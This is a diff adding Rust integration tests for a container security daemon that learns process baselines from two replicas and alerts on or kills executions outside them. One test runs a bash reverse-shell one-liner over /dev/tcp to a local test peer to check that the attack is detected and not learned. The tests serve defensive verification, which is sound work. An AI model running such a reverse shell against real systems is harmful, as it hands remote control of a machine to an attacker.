@@ -1,0 +1,219 @@
+//! A baseline from the first act to the last: learned of two replicas, promoted, told of, held to.
+
+use crate::container::{Container, Group};
+use crate::daemon::{self, Daemon, Pins, Settings, outcome};
+use crate::engine;
+use crate::lab::Peer;
+use crate::pace;
+use crate::restart::Bpffs;
+use anyhow::{Context, Result, ensure};
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+/// What a service does in this play: a look around, and a shell for a look at itself.
+const WORK: &str = "ls / > /dev/null; sh -c 'id > /dev/null; true'";
+/// Name of the file that belongs to the image.
+const NAME: &str = "play=1.toml";
+
+struct Play {
+    daemon: Daemon,
+    containers: [Container; 2],
+    baselines: PathBuf,
+    // Dropped last.
+    _folder: tempfile::TempDir,
+    _group: Group,
+}
+
+/// Two containers of one image, under a daemon that learns.
+fn play() -> Result<Play> {
+    let group = Group::make()?;
+    let containers = [Container::start(&group)?, Container::start(&group)?];
+    play_with(group, containers, "deny", None)
+}
+
+fn play_with(group: Group, containers: [Container; 2], runtime_exec: &str, pins: Option<Pins>) -> Result<Play> {
+    let folder = tempfile::tempdir()?;
+    let socket = folder.path().join("engine.sock");
+    let entry = |container: &Container, name: &str| {
+        let id = container.id();
+        format!(r#"{{"Id":"{id}","Names":["/{name}"],"Image":"play:1","ImageID":"","State":"running","Labels":{{}}}}"#)
+    };
+    let [one, two] = &containers;
+    engine::serve(&socket, &format!("[{},{}]", entry(one, "one"), entry(two, "two")))?;
+    let baselines = folder.path().join("baselines");
+    let settings = Settings {
+        engine: format!("docker = true\ndocker_socket = \"{}\"", socket.display()),
+        baseline: format!(
+            "folder = \"{}\"\nlearn = [\"play\"]\nsettle_s = 2\nwrite_s = 1\nruntime_exec = \"{runtime_exec}\"",
+            baselines.display()
+        ),
+        pins,
+        ..Settings::mode("protect")
+    };
+    let daemon = Daemon::start(&group, &settings)?;
+    Ok(Play { daemon, containers, baselines, _folder: folder, _group: group })
+}
+
+impl Play {
+    fn text(&self) -> String {
+        fs::read_to_string(self.baselines.join(NAME)).unwrap_or_default()
+    }
+
+    fn await_text(&self, what: &str, wanted: impl Fn(&str) -> bool) -> Result<()> {
+        let until = Instant::now() + pace::wait(Duration::from_secs(15));
+        while !wanted(&self.text()) {
+            ensure!(Instant::now() < until, "{what}: not in time:\n{}\n{}", self.text(), self.daemon.log());
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        Ok(())
+    }
+
+    /// `bulkhead baseline …`; waits until the daemon has read what it changed.
+    fn change(&self, arguments: &[&str]) -> Result<()> {
+        let before = self.notices("baseline_changed");
+        let (ok, said) = baseline(&self.baselines, arguments)?;
+        ensure!(ok, "{arguments:?}: {said}");
+        let more = |daemon: &Daemon| notices(daemon, "baseline_changed") > before;
+        let until = Instant::now() + pace::wait(Duration::from_secs(8));
+        while !more(&self.daemon) {
+            ensure!(Instant::now() < until, "the change is not read:\n{}", self.daemon.log());
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        Ok(())
+    }
+
+    fn notices(&self, action: &str) -> usize {
+        notices(&self.daemon, action)
+    }
+
+    fn deviations(&self, container: &Container) -> usize {
+        self.daemon.alerts("baseline_exec", container.id()).len()
+    }
+}
+
+fn notices(daemon: &Daemon, action: &str) -> usize {
+    daemon.rows().iter().filter(|row| row["event"]["action"] == action).count()
+}
+
+fn baseline(folder: &Path, arguments: &[&str]) -> Result<(bool, String)> {
+    let mut command = Command::new(daemon::program()?);
+    let output = command.arg("baseline").args(arguments).arg("--folder").arg(folder).output().context("baseline")?;
+    let said = [output.stdout, output.stderr].concat();
+    Ok((output.status.success(), String::from_utf8_lossy(&said).into_owned()))
+}
+
+/// A hundred times, by what the shell has built in.
+fn often(command: &str) -> String {
+    format!("i=0; while [ $i -lt 100 ]; do {command}; i=$((i+1)); done")
+}
+
+/// Two replicas teach, an attack meanwhile does not; what was not learned is told in `monitor` and stopped in `protect`.
+pub fn learned_baseline_is_held() -> Result<()> {
+    let play = play()?;
+    let [one, two] = &play.containers;
+    for container in [one, two] {
+        ensure!(container.run(WORK)?.success(), "the work fails");
+    }
+    let peer = Peer::shell(one.listen()?, "touch /tmp/owned\n", pace::wait(Duration::from_secs(2)))?;
+    one.run(&format!("wc -l /etc/passwd; bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
+    play.daemon.await_alert("reverse_shell", one.id())?;
+    let replicas = |text: &str| [one, two].iter().all(|container| text.contains(&container.id()[..12]));
+    play.await_text("learned of both", |text| text.contains("/ls\"") && text.contains("/id\"") && replicas(text))?;
+    for never in ["/bash\"", "/wc\"", "127.0.0.1"] {
+        ensure!(!play.text().contains(never), "an attack was learned ({never}):\n{}", play.text());
+    }
+
+    play.change(&["promote", "play", "--quiet", "0"])?;
+    two.run(WORK)?;
+    ensure!(two.run("touch /tmp/told")?.success(), "monitor mode touched it");
+    let alert = play.daemon.await_alert("baseline_exec", two.id())?;
+    ensure!(outcome(&alert) == "observed", "outcome {}", outcome(&alert));
+    ensure!(alert["message"].as_str().is_some_and(|said| said.contains("/touch")), "{}", alert["message"]);
+    ensure!(two.path("/tmp/told").exists(), "monitor mode touched it");
+    ensure!(play.deviations(two) == 1, "what was learned is told of");
+
+    ensure!(!baseline(&play.baselines, &["promote", "play", "--quiet", "0"])?.0, "promoted without a comparison");
+    play.change(&["promote", "play", "--quiet", "0", "--force"])?;
+    one.run(WORK)?;
+    one.run(&often("perl -e 'open F, \">/tmp/effect\"'"))?;
+    let alert = play.daemon.await_alert("baseline_exec", one.id())?;
+    ensure!(outcome(&alert) == "killed", "outcome {}: {}", outcome(&alert), alert["message"]);
+    ensure!(alert["bulkhead"]["enforced_by"] == "signal", "enforced by {}", alert["bulkhead"]["enforced_by"]);
+    ensure!(!one.path("/tmp/effect").exists(), "what is not in the baseline ran");
+    let killed = play.deviations(one);
+    one.run(&often("ls / > /dev/null || echo failed > /tmp/failed"))?;
+    ensure!(one.run(WORK)?.success() && !one.path("/tmp/failed").exists(), "what was learned is stopped");
+    ensure!(play.deviations(one) == killed, "what was learned is told of");
+
+    play.change(&["demote", "play"])?;
+    ensure!(one.run("touch /tmp/told")?.success() && one.path("/tmp/told").exists(), "held to it all the same");
+    Ok(())
+}
+
+/// A file that is not accepted changes nothing, and is told with line and entry.
+pub fn broken_baseline_changes_nothing() -> Result<()> {
+    let play = play()?;
+    let [one, _] = &play.containers;
+    one.run(WORK)?;
+    play.await_text("learned", |text| text.contains("/id\""))?;
+    play.change(&["promote", "play", "--quiet", "0"])?;
+    let good = play.text();
+    fs::write(play.baselines.join(NAME), format!("{good}\n[[listen]]\nexe = \"bin/x\"\nport = \"80\"\n"))?;
+    let told =
+        play.daemon.await_row("refusal", Duration::from_secs(8), |row| row["event"]["action"] == "baseline_refused")?;
+    let said = told["message"].as_str().unwrap_or_default();
+    ensure!(said.contains("listen[0].exe") && said.contains("the one before stays"), "{said}");
+    one.run(WORK)?;
+    one.run("touch /tmp/x")?;
+    play.daemon.await_alert("baseline_exec", one.id())?;
+    ensure!(play.deviations(one) == 1, "the former baseline does not hold");
+    let (ok, said) = baseline(&play.baselines, &["validate"])?;
+    ensure!(!ok && said.contains("listen[0].exe"), "{said}");
+    Ok(())
+}
+
+/// A first process that runs what it finds at /job.
+const SERVICE: &str =
+    "sh -c 'while :; do if [ -e /job ]; then . /job; rm /job; fi; sleep 0.2; done' # until it is killed";
+
+/// Lets the service do something, and waits until it has.
+fn job(container: &Container, script: &str) -> Result<()> {
+    let path = container.path("/job");
+    fs::write(&path, format!("{script}\n"))?;
+    let until = Instant::now() + pace::wait(Duration::from_secs(10));
+    while path.exists() {
+        ensure!(Instant::now() < until, "the service does not take `{script}`");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    Ok(())
+}
+
+/// What the service starts is held to its baseline in the kernel, with the daemon and without it; sessions from outside are told
+/// of only.
+pub fn baseline_holds_the_service_without_a_daemon() -> Result<()> {
+    let (group, pins) = (Group::make()?, Bpffs::mount()?);
+    let containers = [Container::start_as(&group, SERVICE)?, Container::start(&group)?];
+    let mut play = play_with(group, containers, "alert", Some(pins.pins("keep")))?;
+    let attack = |file: &str| format!("perl -e 'open F, \">{file}\"'");
+    job(&play.containers[0], "ls / > /dev/null")?;
+    play.await_text("learned", |text| ["/ls\"", "/rm\"", "/sleep\""].iter().all(|exe| text.contains(exe)))?;
+    play.change(&["promote", "play", "--quiet", "0"])?;
+    play.change(&["promote", "play", "--quiet", "0", "--force"])?;
+    let service = &play.containers[0];
+    job(service, &format!("{}; ls / > /works", attack("/effect")))?;
+    ensure!(!service.path("/effect").exists(), "what is not in the baseline ran");
+    ensure!(fs::metadata(service.path("/works"))?.len() > 0, "what was learned is stopped");
+    let alert = play.daemon.await_alert("baseline_exec", service.id())?;
+    ensure!(alert["bulkhead"]["enforced_by"] == "signal", "enforced by {}", alert["bulkhead"]["enforced_by"]);
+    service.run(&attack("/session"))?;
+    ensure!(service.path("/session").exists(), "a session from outside was held to it");
+
+    play.daemon.kill_9()?;
+    let service = &play.containers[0];
+    job(service, &format!("{}; ls / > /still-works", attack("/alone")))?;
+    ensure!(!service.path("/alone").exists(), "it ended with the daemon");
+    ensure!(fs::metadata(service.path("/still-works"))?.len() > 0, "what was learned is stopped");
+    Ok(())
+}
